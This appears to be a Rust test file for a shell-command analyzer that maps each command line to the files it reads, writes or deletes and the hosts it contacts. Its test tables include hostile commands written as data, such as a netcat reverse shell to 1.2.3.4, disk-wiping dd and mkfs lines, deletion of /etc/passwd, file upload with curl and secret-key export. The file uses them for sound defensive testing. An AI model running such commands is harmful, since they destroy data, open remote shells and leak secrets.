//! Lines and what they use, as tables. In a line `·` is a space inside a word, `$X` is unknown, and `…` at the end says
//! that more arguments follow. What is used: `R`ead, `W`rite, `D`elete and a path, with `**` behind it if everything
//! below is affected, and `@base` if it starts elsewhere; or `H scheme host`.

use super::add_effects;
use crate::shell::view::{Access, Directory, Invocation, ShellView};
use crate::shell::word::{UNKNOWN, Word};

fn invocation(line: &str) -> Invocation {
    let word = |text: &str| {
        let text = text.replace("$X", &UNKNOWN.to_string()).replace('·', " ");
        if text == "''" { Word::literal("") } else { Word::literal(text) }
    };
    let mut words = line.split_whitespace().filter(|word| *word != "…");
    Invocation {
        program: words.next().map(word).expect("a program"),
        args: words.map(word).collect(),
        more_args: line.ends_with('…'),
        ..Invocation::default()
    }
}

fn used_by(invocation: Invocation) -> Vec<String> {
    let mut view = ShellView { programs: vec![invocation], ..ShellView::default() };
    add_effects(&mut view);
    let file = |file: &crate::shell::view::FileUse| {
        let access = match file.access {
            Access::Read => 'R',
            Access::Write => 'W',
            Access::Delete => 'D',
        };
        let base = match &file.base {
            Directory::Start => String::new(),
            Directory::Path(path) => format!(" @{path}"),
            Directory::Unknown => " @?".to_owned(),
        };
        let below = if file.recursive { "**" } else { "" };
        format!("{access} {}{below}{base}", file.path)
    };
    let host = |host: &crate::shell::view::HostUse| format!("H {} {}", host.scheme, host.host);
    view.files.iter().map(file).chain(view.hosts.iter().map(host)).collect()
}

#[track_caller]
fn check(table: &[(&str, &str)]) {
    for (line, expected) in table {
        assert_eq!(used_by(invocation(line)).join(", "), *expected, "{line}");
    }
}

#[test]
fn files_are_deleted_moved_and_copied() {
    check(&[
        ("rm a b", "D a, D b"),
        ("rm -rf a", "D a**"),
        ("rm -- -x", "D -x"),
        ("rm $X", "D …"),
        ("rm …", "D …"),
        ("busybox rm a", "D a"),
        ("rmdir a", "D a"),
        ("shred a", "W a"),
        ("shred -u a", "D a"),
        ("mv a b", "D a**, W b**"),
        ("mv a b c/", "D a**, D b**, W c/**"),
        ("mv -t c a b", "D a**, D b**, W c**"),
        ("cp a b", "R a, W b"),
        ("cp -r a b c", "R a**, R b**, W c**"),
        ("cp --target-directory=c a", "R a, W c"),
        ("cp -a a b", "R a**, W b**"),
        ("ln -s a b", "R a, W b"),
        ("ln -s /x/a", "R /x/a, W a"),
        ("install -m 755 a /usr/bin/a", "R a, W /usr/bin/a"),
        ("install -d a b", "W a, W b"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "R /dev/zero, W /dev/sda"),
        ("truncate -s 0 a", "W a"),
        ("tee -a a b", "W a, W b"),
        ("touch -r a b", "R a, W b"),
        ("mkdir -p a/b", "W a/b"),
        ("mktemp", "W /tmp/tmp.XXXXXXXXXX"),
        ("mktemp -d", "W /tmp/tmp.XXXXXXXXXX"),
        ("mktemp ./x.XXX", "W ./x.XXX"),
        ("mkfs.ext4 /dev/sda1", "W /dev/sda1**"),
        ("cat /dev/null - /dev/stdin /dev/fd/3", ""),
        ("trash a", "D a**"),
    ]);
}

#[test]
fn modes_are_written() {
    check(&[
        ("chmod 777 a b", "W a, W b"),
        ("chmod -R u+x a", "W a**"),
        ("chmod -x a", "W a"),
        ("chmod --reference=a b", "R a, W b"),
        ("chown -R root:root /etc", "W /etc**"),
        ("chgrp x a", "W a"),
        ("chattr +i a", "W a"),
        ("chattr -i a", "W a"),
        ("setfacl -m u:x:rwx a", "W a"),
    ]);
}

#[test]
fn text_is_read_and_edited() {
    check(&[
        ("cat a b", "R a, R b"),
        ("head -n 5 a", "R a"),
        ("head -5 a", "R a"),
        ("sort -o b a", "W b, R a"),
        ("uniq a b", "R a, W b"),
        ("sed s/a/b/ f", "R f"),
        ("sed -i s/a/b/ f g", "W f, W g"),
        ("sed -i.bak -e s/a/b/ f", "W f"),
        ("sed -i '' s/a/b/ f", "W f"),
        ("sed -n -f script f", "R script, R f"),
        ("awk {print} f x=1", "R f"),
        ("awk -i inplace {print} f", "W f"),
        ("awk -F : {print} /etc/passwd", "R /etc/passwd"),
        ("perl -pi -e s/a/b/ f", "W f"),
        ("perl -ne print f", "R f"),
        ("perl script.pl x", "R script.pl"),
        ("grep -n x f g", "R f, R g"),
        ("grep -r x .", "R .**"),
        ("grep -r x", "R .**"),
        ("grep -e x f", "R f"),
        ("grep -f patterns f", "R patterns, R f"),
        ("grep x", ""),
        ("rg x", "R .**"),
        ("rg -n x src", "R src**"),
        ("jq .x f", "R f"),
        ("jq --arg a b .x f", "R f"),
        ("jq --slurpfile a b .x f", "R b, R f"),
        ("yq -i .a=1 f", "W f"),
        ("diff -r a b", "R a**, R b**"),
        ("find", "R .**"),
        ("find . -name x", "R .**"),
        ("find a b -type f -delete", "D a**, D b**"),
        ("find . ( -name a -o -name b ) -fprint out", "W out, R .**"),
        ("find . -exec rm {} ;", "R .**"),
        ("fd x src", "R src**"),
        ("vim +10 a", "W a"),
        ("view a", "R a"),
        ("nano a", "W a"),
        ("xxd a b", "R a, W b"),
        ("strings /bin/ls", "R /bin/ls"),
        ("base64 -d a", "R a"),
        ("split -b 1M a prefix", "R a, W prefix"),
        ("echo /etc/passwd", ""),
        ("test -f /etc/passwd", ""),
        ("cd /etc", ""),
        ("export PATH=/x", ""),
        ("ls -la /etc", "R /etc"),
        ("prettier --write src", "W src**"),
    ]);
}

#[test]
fn archives_are_packed_and_unpacked() {
    check(&[
        ("tar czf a.tgz x y", "W a.tgz, R x**, R y**"),
        ("tar -xzf a.tgz", "R a.tgz, W .**"),
        ("tar xf a.tgz -C /opt", "R a.tgz, W .** @/opt"),
        ("tar -C /opt -cf - x", "R x** @/opt"),
        ("tar tf a.tgz", "R a.tgz"),
        ("unzip a.zip", "R a.zip, W .**"),
        ("unzip a.zip -d out", "R a.zip, W out**"),
        ("unzip -l a.zip", "R a.zip"),
        ("zip -r a.zip x", "W a.zip, R x**"),
        ("gzip a", "D a, W a.gz"),
        ("gzip -k a", "R a, W a.gz"),
        ("gunzip a.gz", "D a.gz, W a"),
        ("gzip -dc a.gz", "R a.gz"),
        ("7z x a.7z -oout", "R a.7z, W out**"),
    ]);
}

#[test]
fn transfers_have_hosts_and_files() {
    check(&[
        ("curl https://Example.com/x", "H https example.com"),
        ("curl example.com/x", "H http example.com"),
        ("curl -sSLo out https://a.b/x", "W out, H https a.b"),
        ("curl -O https://a.b/c/d.sh?x", "W d.sh, H https a.b"),
        ("curl -T f ftp://a.b", "R f, H ftp a.b"),
        ("curl -d @f https://a.b", "R f, H https a.b"),
        ("curl --data-binary @f --url https://a.b", "R f, H https a.b"),
        ("curl -F x=@f;type=a/b https://a.b", "R f, H https a.b"),
        ("curl -K f", "R f"),
        ("curl -H @f a.b", "R f, H http a.b"),
        ("curl -H Host:·x a.b", "H http a.b"),
        ("curl $X", "H  "),
        ("curl https://$X/x", "H https "),
        ("curl file:///etc/passwd", "R /etc/passwd"),
        ("wget https://a.b/c", "W c, H https a.b"),
        ("wget -O - https://a.b/c", "H https a.b"),
        ("wget -O x https://a.b/c", "W x, H https a.b"),
        ("wget -P dir https://a.b/c", "W dir**, H https a.b"),
        ("wget --post-file=f https://a.b", "R f, W index.html, H https a.b"),
        ("aria2c -d dir -o x https://a.b/c", "W x @dir, H https a.b"),
        ("http POST a.b/x f@file", "R file, H http a.b"),
        ("scp f user@Host:path", "R f, H ssh host"),
        ("scp -r host:path f", "W f**, H ssh host"),
        ("scp -i key f host:", "R key, R f, H ssh host"),
        ("rsync -av a/ host:b", "R a/**, H ssh host"),
        ("rsync -ai a b", "R a**, W b**"),
        ("rsync -a --delete a b", "R a**, W b**, D b**"),
        ("ssh -i key user@host ls /etc", "R key, H ssh host"),
        ("ssh -p 22 host", "H ssh host"),
        ("sftp user@host:x", "H ssh host"),
        ("nc host 80", "H tcp host"),
        ("nc -l 80", ""),
        ("nc -lp 80", ""),
        ("ncat -e /bin/sh 1.2.3.4 4444", "H tcp 1.2.3.4"),
        ("socat - TCP:a.b:80,x", "H tcp a.b"),
        ("telnet a.b 25", "H telnet a.b"),
        ("psql -h db.x -f f", "R f, H postgres db.x"),
        ("psql postgres://u:p@db.x:5432/y", "H postgres db.x"),
        ("redis-cli -h r.x FLUSHALL", "H redis r.x"),
        ("mysql -hdb.x -uroot", "H mysql db.x"),
        ("pip install git+https://a.b/c", "H https a.b"),
        ("pip install -r f -t dir --index-url https://a.b x", "R f, W dir**, H https a.b"),
        ("python3 -m pip install -r f", "R f"),
        ("npm install https://a.b/c.tgz", "H https a.b"),
        ("npm --prefix dir install", "W dir**"),
        ("docker pull a/b", "H https docker.io"),
        ("docker push ghcr.io/a/b", "H https ghcr.io"),
        ("docker login ghcr.io", "H https ghcr.io"),
    ]);
}

#[test]
fn git_touches_files_and_remotes() {
    check(&[
        ("git clone https://github.com/a/b.git", "W b**, H https github.com"),
        ("git clone git@github.com:a/b dir", "W dir**, H ssh github.com"),
        ("git -C /x clone https://a.b/c", "W c** @/x, H https a.b"),
        ("git checkout -- a b", "W a**, W b**"),
        ("git checkout main", ""),
        ("git checkout .", "W .**"),
        ("git restore a", "W a**"),
        ("git -C /x rm -r a", "W .git** @/x, D a** @/x"),
        ("git -C /x status", ""),
        ("git -C /x stash list", ""),
        ("git -C /x commit -m y", "W .git** @/x"),
        ("git -C /x clean -fd", "W /x**, W .git** @/x, D .** @/x"),
        ("git --git-dir=/x/.git --work-tree=/x checkout y", "W /x**, W /x/.git**"),
        ("git commit -m y", ""),
        ("git -C /x -C y rm a", "W .git** @/x/y, D a @/x/y"),
        ("git mv a b", "D a**, W b**"),
        ("git clean -fdx", "D .**"),
        ("git clean -fd a", "D a**"),
        ("git clean -n", ""),
        ("git apply a.patch", "R a.patch"),
        ("git archive -o a.tgz HEAD", "W a.tgz"),
        ("git push https://a.b/c main", "H https a.b"),
        ("git push origin main", ""),
        ("git remote add x git@a.b:c/d", "H ssh a.b"),
        ("git ls-remote https://a.b/c", "H https a.b"),
        ("git commit -F f", "R f"),
        ("git status", ""),
        ("git log feature/x", ""),
        ("git reset --hard", "W .**"),
    ]);
}

#[test]
fn other_programs_use_files() {
    check(&[
        ("docker run -v /a:/b -v name:/c -v ./d:/e:ro x cat /etc", "W /a**, R ./d**"),
        ("docker run --mount type=bind,source=/a,target=/b x", "W /a**"),
        ("docker build -f Dockerfile .", "R Dockerfile, R .**"),
        ("docker cp c:/x y", "W y**"),
        ("kubectl apply -f a.yaml", "R a.yaml"),
        ("kubectl apply -f https://a.b/c", "H https a.b"),
        ("ssh-keygen -t ed25519 -f key", "W key, W key.pub"),
        ("ssh-keygen -lf key", "R key"),
        ("openssl enc -d -in a -out b", "R a, W b"),
        ("openssl s_client -connect a.b:443", "H tls a.b"),
        ("gpg -d a.gpg", "R a.gpg"),
        ("gpg -o b --export-secret-keys me", "W b"),
        ("python script.py /etc/passwd", "R script.py"),
        ("python -c print(1)", ""),
        ("bash x.sh", "R x.sh"),
        ("bash -c ls·/etc", ""),
        ("node x.js", "R x.js"),
        (". ./env", "R ./env"),
        ("source env", "R env"),
        ("sqlite3 db select·1", "R db"),
        ("sqlite3 db drop·table·x", "W db"),
        ("sqlite3 -readonly db $X", "R db"),
        ("sqlite3 db $X", "W db"),
        ("sqlite3 db .dump", "R db"),
        ("make -C dir -f file all", "R file @dir"),
        ("crontab file", "R file"),
        ("crontab -l", ""),
        ("patch a b.patch", "R b.patch, W a"),
        ("aws s3 cp a s3://b/c", "R a"),
        ("aws s3 sync s3://b dir", "W dir**"),
        ("cargo install x", ""),
        ("xargs -a list rm", "R list"),
        ("sudo rm /etc/passwd", ""),
        ("terraform -chdir=x apply -var-file=f", "R f @x"),
        ("unknown-tool -x /etc/passwd ~/x ./y word", "R /etc/passwd, R ~/x, R ./y"),
        ("unknown-tool https://a.b/c", "H https a.b"),
        ("unknown-tool --file=~/x --key /y @~/z", "R /y, R @~/z, R ~/x, R ~/z"),
        (
            "unknown-tool -F a=@/x -k/y b=../z --in=file:///u",
            "R a=@/x, R b=../z, R /x, R /y, R ../z, R /u",
        ),
        ("unknown-tool --level=3 a=b @scope x@y", ""),
        ("$X /etc/passwd", "R /etc/passwd"),
    ]);
}

#[test]
fn a_patch_in_the_line_names_its_files() {
    let patch = "*** Begin Patch\n*** Add File: a.txt\n+x\n*** Update File: b.txt\n*** Move to: c.txt\n@@\n\
*** Delete File: d/e.txt\n*** End Patch\n";
    let mut line = invocation("apply_patch");
    line.stdin_text = Some(Word::literal(patch));
    assert_eq!(used_by(line), ["W a.txt", "W b.txt", "W c.txt", "D d/e.txt"]);
    let mut line = invocation("apply_patch");
    line.args = vec![Word::literal(patch)];
    assert_eq!(used_by(line).len(), 4);

    let diff = "--- a/x.txt\n+++ b/x.txt\n@@ -1 +1 @@\n--- a/y.txt\n+++ /dev/null\n";
    let mut line = invocation("git apply");
    line.stdin_text = Some(Word::literal(diff));
    assert_eq!(used_by(line), ["W x.txt", "D y.txt"]);
    let mut line = invocation("patch -p1 -d dir");
    line.stdin_text = Some(Word::literal(diff));
    assert_eq!(used_by(line), ["W x.txt @dir", "D y.txt @dir"]);
}

#[test]
fn relative_paths_start_where_the_program_runs() {
    let mut line = invocation("rm a");
    line.cwd = Directory::Path("/x".to_owned());
    assert_eq!(used_by(line), ["D a @/x"]);
    let mut line = invocation("git -C y rm a");
    line.cwd = Directory::Path("/x/".to_owned());
    assert_eq!(used_by(line), ["W .git** @/x/y", "D a @/x/y"]);
    let mut line = invocation("git -C $X rm a");
    line.cwd = Directory::Path("/x".to_owned());
    assert_eq!(used_by(line), ["W .git** @?", "D a @?"]);
}
